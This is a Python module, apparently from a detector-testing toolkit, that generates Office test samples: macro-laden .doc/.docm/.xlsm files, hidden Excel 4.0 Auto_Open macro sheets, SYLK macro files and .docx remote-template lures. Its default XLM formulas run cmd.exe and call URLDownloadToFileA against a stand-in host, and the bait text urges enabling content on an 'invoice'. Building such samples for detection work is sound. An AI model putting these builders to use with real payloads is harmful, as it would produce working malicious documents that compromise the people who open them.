r"""Builders of Office documents: Word 97 (.doc), OOXML (.docx/.docm/.xlsx/.xlsm) and SYLK.

- :func:`build_doc_with_macros`: a compound file (MS-CFB) as Word 97-2003
  writes it: a ``WordDocument`` stream starting with a FIB (MS-DOC 2.5.1) whose
  piece table (MS-DOC 2.9.38 Clx) in ``1Table`` points at the text, a
  ``\x01CompObj`` stream (MS-OLEDS 2.3.8) and the VBA project in ``Macros``
  (MS-OVBA 2.2.1).
- :func:`build_docm`, :func:`build_xlsm`: OPC packages (ECMA-376 Part 2) whose
  main part relates to ``vbaProject.bin`` (a compound file with the project at
  its root, [MS-OFFMACRO2]); :func:`build_docx` and :func:`build_xlsx` are the
  same packages without macros (ECMA-376 Part 1, WordprocessingML 17 and
  SpreadsheetML 18).
- :func:`build_xlsm_with_xlm_sheet`: an Excel 4.0 macro sheet
  (``xl/macrosheets/sheet1.xml``) run by the ``_xlnm.Auto_Open`` defined name.
- :func:`build_xlm_slk`: a SYLK text file marked as a macro sheet (``O;E``)
  with an ``Auto_open`` name and XLM formulas.

The default macro is :func:`~sekimori.samples.vba.inert_dropper_source`, which
looks like an Emotet dropper and does nothing harmful.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Mapping, Sequence
from io import BytesIO
from xml.sax.saxutils import escape, quoteattr

from sekimori.samples import SampleError
from sekimori.samples.cfb import Storage, Stream, write_cfb
from sekimori.samples.propset import STREAM_NAME as SUMMARY_STREAM
from sekimori.samples.propset import SummaryInformation, build_summary_information
from sekimori.samples.vba import build_vba_project, inert_dropper_source

Macros = Mapping[str, str] | str | None
Cell = str | int | float | None

WORD_CLSID = bytes.fromhex("0609020000000000C000000000000046")  # {00020906-...} Word.Document.8
_ZIP_DATE = (1980, 1, 1, 0, 0, 0)
_FIB_SIZE = 900
_TEXT_OFFSET = 0x0800

_NS_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_NS_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NS_XM = "http://schemas.microsoft.com/office/excel/2006/main"
_REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_REL_SHEET = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
_REL_STYLES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"
_REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_REL_XLM = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
_REL_SETTINGS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"
_REL_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
_CT_VBA = "application/vnd.ms-office.vbaProject"
_CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
_CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_CT_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
_CT_STYLES = "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"
_CT_XLM = "application/vnd.ms-excel.macrosheet+xml"
_XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

DEFAULT_XLM_FORMULAS = (
    'EXEC("cmd.exe /c echo detector-test")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
    '"http://payload.invalid/invoice.dll","C:\\Users\\Public\\detector-test.txt",0,0)',
    "HALT()",
)


def macro_modules(vba: Macros, document_module: str) -> Mapping[str, str]:
    """The modules for ``vba``: a mapping as is, a string as ``document_module``'s source.

    None gives the inert dropper started by Document_Open (Word) or
    Workbook_Open (Excel).
    """
    if vba is None:
        trigger = "Document_Open" if document_module == "ThisDocument" else "Workbook_Open"
        return {document_module: inert_dropper_source(trigger)}
    if isinstance(vba, str):
        return {document_module: vba}
    return vba


# --- Word 97-2003 (MS-DOC) ------------------------------------------------------


def _fib(text_bytes: int, char_count: int, clx_size: int, lid: int) -> bytes:
    """A FIB (MS-DOC 2.5.1) for nFib 0x00C1 with the text and piece table locations."""
    flags = (1 << 9) | (1 << 12)  # fWhichTblStm = 1 (1Table), fExtChar = 1
    base = struct.pack(
        "<HHHHHHHIBBHHII", 0xA5EC, 0x00C1, 0, lid, 0, flags, 0x00BF, 0, 0, 0, 0, 0, 0, 0
    )
    rg_w = [0] * 14
    rg_w[13] = lid  # lidFE
    rg_lw = [0] * 22
    rg_lw[0] = _TEXT_OFFSET + text_bytes  # cbMac
    rg_lw[3] = char_count  # ccpText
    rg_fclcb = [0] * (93 * 2)
    rg_fclcb[33 * 2] = 0  # fcClx: the Clx opens the 1Table stream
    rg_fclcb[33 * 2 + 1] = clx_size  # lcbClx
    fib = (
        base
        + struct.pack("<H14H", 14, *rg_w)
        + struct.pack("<H22I", 22, *rg_lw)
        + struct.pack("<H186I", 93, *rg_fclcb)
        + struct.pack("<H", 0)
    )
    if len(fib) != _FIB_SIZE:
        raise SampleError(f"FIB is {len(fib)} bytes, expected {_FIB_SIZE}")
    return fib


def _compobj() -> bytes:
    """A CompObjStream (MS-OLEDS 2.3.8) naming Word.Document.8."""

    def ansi(text: str) -> bytes:
        raw = text.encode("ascii") + b"\x00"
        return struct.pack("<I", len(raw)) + raw

    def unicode(text: str) -> bytes:
        raw = text.encode("utf-16-le") + b"\x00\x00"
        return struct.pack("<I", len(raw) // 2) + raw

    header = struct.pack("<IIi", 0xFFFE0001, 0x00000A03, -1) + WORD_CLSID
    return (
        header
        + ansi("Microsoft Word 97-2003 Document")
        + ansi("MSWordDoc")
        + ansi("Word.Document.8")
        + struct.pack("<I", 0x71B239F4)
        + unicode("Microsoft Word 97-2003 Document")
        + unicode("MSWordDoc")
        + unicode("Word.Document.8")
    )


def build_doc(
    text: str = "",
    vba: Macros = None,
    *,
    with_macros: bool = True,
    metadata: SummaryInformation | None = None,
) -> bytes:
    r"""A Word 97-2003 document (.doc) with ``text`` and, by default, a VBA project.

    The text is one UTF-16LE piece (MS-DOC 2.4.1 retrieving text); paragraphs
    end with CR. ``vba`` is a mapping module name -> source, the source of
    ``ThisDocument`` as a string, or None for the inert dropper. ``metadata``
    goes in ``\x05SummaryInformation`` (default: the first line as title,
    author "user", code page 932 when the text is Japanese).
    """
    body = text.replace("\r\n", "\n").replace("\n", "\r")
    if not body.endswith("\r"):
        body += "\r"
    encoded = body.encode("utf-16-le")
    chars = len(encoded) // 2
    # PlcPcd (MS-DOC 2.8.35): CPs [0, chars] and one Pcd whose fc points at the text.
    pcd = struct.pack("<HIH", 0, _TEXT_OFFSET, 0)
    plc = struct.pack("<II", 0, chars) + pcd
    clx = struct.pack("<BI", 0x02, len(plc)) + plc
    lid = 0x0411 if any(ord(c) > 0x2FFF for c in body) else 0x0409
    fib = _fib(len(encoded), chars, len(clx), lid)
    word = fib + bytes(_TEXT_OFFSET - len(fib)) + encoded
    root = Storage("Root Entry", clsid=WORD_CLSID)
    if metadata is None:
        japanese = lid == 0x0411
        metadata = SummaryInformation(
            title=body.split("\r", 1)[0][:64], author="user", codepage=932 if japanese else 1252
        )
    root.children += [
        Stream("WordDocument", word),
        Stream("1Table", clx),
        Stream("\x01CompObj", _compobj()),
        Stream(SUMMARY_STREAM, build_summary_information(metadata)),
    ]
    if with_macros:
        root.children.append(build_vba_project(macro_modules(vba, "ThisDocument")))
    return write_cfb(root)


def build_doc_with_macros(vba: Macros = None, text: str = "") -> bytes:
    """A Word 97-2003 .doc whose ``Macros`` storage holds the VBA project ``vba``."""
    return build_doc(text or "Please enable content to view this invoice.", vba)


# --- OOXML packages (ECMA-376 Part 2, OPC) -----------------------------------------


def _package(parts: Mapping[str, str | bytes], overrides: Mapping[str, str]) -> bytes:
    """A zip package with [Content_Types].xml and the root relationship first."""
    types = [
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">',
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        f'<Default Extension="bin" ContentType="{_CT_VBA}"/>',
    ]
    types += [
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items()
    ]
    types.append("</Types>")
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        entries: dict[str, str | bytes] = {"[Content_Types].xml": _XML_DECL + "".join(types)}
        entries.update(parts)
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            data = content.encode("utf-8") if isinstance(content, str) else content
            archive.writestr(info, data)
    return buffer.getvalue()


def _rels(relations: Sequence[tuple[str, str]]) -> str:
    """A relationships part; targets with a URL scheme are External (ECMA-376-2 9.3)."""
    items = "".join(
        f'<Relationship Id="rId{index}" Type="{kind}" Target={quoteattr(target)}'
        + (' TargetMode="External"/>' if "://" in target else "/>")
        for index, (kind, target) in enumerate(relations, start=1)
    )
    return (
        _XML_DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{items}</Relationships>'
    )


def _document_xml(text: str) -> str:
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in text.replace("\r\n", "\n").split("\n")
    )
    return f'{_XML_DECL}<w:document xmlns:w="{_NS_W}"><w:body>{paragraphs}</w:body></w:document>'


def _word_package(
    text: str, vba_project: bytes | None, remote_template: str | None = None
) -> bytes:
    parts: dict[str, str | bytes] = {
        "_rels/.rels": _rels([(_REL_DOC, "word/document.xml")]),
        "word/document.xml": _document_xml(text),
    }
    overrides = {"word/document.xml": _CT_DOCM if vba_project is not None else _CT_DOCX}
    relations: list[tuple[str, str]] = []
    if vba_project is not None:
        relations.append((_REL_VBA, "vbaProject.bin"))
        parts["word/vbaProject.bin"] = vba_project
    if remote_template is not None:
        # WordprocessingML 17.15.1.6 attachedTemplate, related from the settings part.
        relations.append((_REL_SETTINGS, "settings.xml"))
        parts["word/settings.xml"] = (
            f'{_XML_DECL}<w:settings xmlns:w="{_NS_W}" xmlns:r="{_NS_R}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>'
        )
        parts["word/_rels/settings.xml.rels"] = _rels([(_REL_TEMPLATE, remote_template)])
        overrides["word/settings.xml"] = _CT_SETTINGS
    if relations:
        parts["word/_rels/document.xml.rels"] = _rels(relations)
    return _package(parts, overrides)


def vba_project_bin(
    modules: Mapping[str, str], *, project_name: str = "Project", codepage: int | None = None
) -> bytes:
    """``vbaProject.bin``: a compound file with the VBA project at its root."""
    project = build_vba_project(modules, project_name=project_name, codepage=codepage)
    return write_cfb(Storage("Root Entry", children=project.children))


def build_docm(vba: Macros = None, text: str = "") -> bytes:
    """A macro-enabled Word document (.docm) carrying ``vba`` in word/vbaProject.bin."""
    body = text or "Please enable content to view this invoice."
    return _word_package(body, vba_project_bin(macro_modules(vba, "ThisDocument")))


def build_docx(text: str, remote_template: str | None = None) -> bytes:
    """A Word document (.docx): one paragraph per line of ``text``, no macros.

    ``remote_template`` (a URL) makes it a template-injection lure: the
    settings part relates an external ``attachedTemplate`` that Word would
    fetch, with its macros, when the document opens.
    """
    return _word_package(text, None, remote_template)


def column_name(index: int) -> str:
    """Spreadsheet column letters for a 0-based index (0 -> A, 26 -> AA)."""
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(ord("A") + rest) + name
    return name


def _cell(ref: str, value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = escape(str(value))
        return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
    return f'<c r="{ref}"><v>{value!r}</v></c>'


def _sheet_data(rows: Sequence[Sequence[Cell]]) -> str:
    out = []
    for row_index, row in enumerate(rows, start=1):
        cells = "".join(
            _cell(f"{column_name(col)}{row_index}", value) for col, value in enumerate(row)
        )
        out.append(f'<row r="{row_index}">{cells}</row>')
    return f"<sheetData>{''.join(out)}</sheetData>"


_STYLES = (
    f'{_XML_DECL}<styleSheet xmlns="{_NS_S}"><fonts count="1"><font><sz val="11"/>'
    '<name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill '
    'patternType="none"/></fill></fills><borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="1"><xf xfId="0"/>'
    "</cellXfs></styleSheet>"
)


def _excel_package(
    rows: Sequence[Sequence[Cell]],
    vba_project: bytes | None,
    xlm_formulas: Sequence[str] | None = None,
) -> bytes:
    macro_enabled = vba_project is not None or xlm_formulas is not None
    code_name = ' codeName="Sheet1"' if vba_project is not None else ""
    sheet = (
        f'{_XML_DECL}<worksheet xmlns="{_NS_S}"><sheetPr{code_name}/>'
        f"{_sheet_data(rows)}</worksheet>"
    )
    relations = [(_REL_SHEET, "worksheets/sheet1.xml"), (_REL_STYLES, "styles.xml")]
    sheets = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
    defined = ""
    overrides = {"xl/worksheets/sheet1.xml": _CT_SHEET, "xl/styles.xml": _CT_STYLES}
    parts: dict[str, str | bytes] = {"xl/worksheets/sheet1.xml": sheet, "xl/styles.xml": _STYLES}
    if vba_project is not None:
        relations.append((_REL_VBA, "vbaProject.bin"))
        parts["xl/vbaProject.bin"] = vba_project
    if xlm_formulas is not None:
        relations.append((_REL_XLM, "macrosheets/sheet1.xml"))
        sheets += f'<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId{len(relations)}"/>'
        defined = (
            '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">'
            "Macro1!$A$1</definedName></definedNames>"
        )
        cells = "".join(
            f'<row r="{index}"><c r="A{index}"><f>{escape(formula.removeprefix("="))}</f></c></row>'
            for index, formula in enumerate(xlm_formulas, start=1)
        )
        parts["xl/macrosheets/sheet1.xml"] = (
            f'{_XML_DECL}<xm:macrosheet xmlns="{_NS_S}" xmlns:r="{_NS_R}" xmlns:xm="{_NS_XM}">'
            f"<sheetData>{cells}</sheetData></xm:macrosheet>"
        )
        overrides["xl/macrosheets/sheet1.xml"] = _CT_XLM
    workbook_pr = '<workbookPr codeName="ThisWorkbook"/>' if vba_project is not None else ""
    parts["xl/workbook.xml"] = (
        f'{_XML_DECL}<workbook xmlns="{_NS_S}" xmlns:r="{_NS_R}">{workbook_pr}'
        f"<sheets>{sheets}</sheets>{defined}</workbook>"
    )
    parts["xl/_rels/workbook.xml.rels"] = _rels(relations)
    parts["_rels/.rels"] = _rels([(_REL_DOC, "xl/workbook.xml")])
    overrides["xl/workbook.xml"] = _CT_XLSM if macro_enabled else _CT_XLSX
    return _package(parts, overrides)


def build_xlsx(rows: Sequence[Sequence[Cell]]) -> bytes:
    """A clean workbook (.xlsx) with one sheet of ``rows`` (strings inline, numbers as values)."""
    return _excel_package(rows, None)


def build_xlsm(vba: Macros = None, rows: Sequence[Sequence[Cell]] = ()) -> bytes:
    """A macro-enabled workbook (.xlsm) carrying ``vba`` in xl/vbaProject.bin.

    A string ``vba`` is the source of ``ThisWorkbook``; None is the inert dropper
    triggered by ``Workbook_Open``.
    """
    modules = dict(macro_modules(vba, "ThisWorkbook"))
    modules.setdefault("Sheet1", "")
    return _excel_package(rows or [["請求書", 1200]], vba_project_bin(modules))


def build_xlsm_with_xlm_sheet(
    formulas: Sequence[str] = DEFAULT_XLM_FORMULAS, rows: Sequence[Sequence[Cell]] = ()
) -> bytes:
    """A workbook with a hidden Excel 4.0 macro sheet run by ``_xlnm.Auto_Open``.

    The formulas go down column A of ``xl/macrosheets/sheet1.xml`` (the macro
    sheet part of [MS-XLSX]; the name is an ECMA-376 18.2.5 definedName); no
    VBA project.
    """
    if not formulas:
        raise SampleError("an XLM macro sheet needs at least one formula")
    return _excel_package(rows or [["請求書", 1200]], None, xlm_formulas=formulas)


def build_xlm_slk(formulas: Sequence[str] = DEFAULT_XLM_FORMULAS) -> bytes:
    """A SYLK file holding an Excel 4.0 macro sheet (``O;E``) started by ``Auto_open``.

    Each formula fills one cell of column A; semicolons inside formulas are
    doubled as SYLK requires. The result is ASCII text.
    """
    if not formulas:
        raise SampleError("an XLM macro sheet needs at least one formula")
    lines = ["ID;P", "O;E", "NN;NAuto_open;ER1C1"]
    for index, formula in enumerate(formulas, start=1):
        lines.append(f"C;X1;Y{index};K0;E{formula.removeprefix('=').replace(';', ';;')}")
    lines.append("E")
    try:
        return ("\r\n".join(lines) + "\r\n").encode("ascii")
    except UnicodeEncodeError as exc:
        raise SampleError(f"SYLK formulas must be ASCII: {exc}") from exc
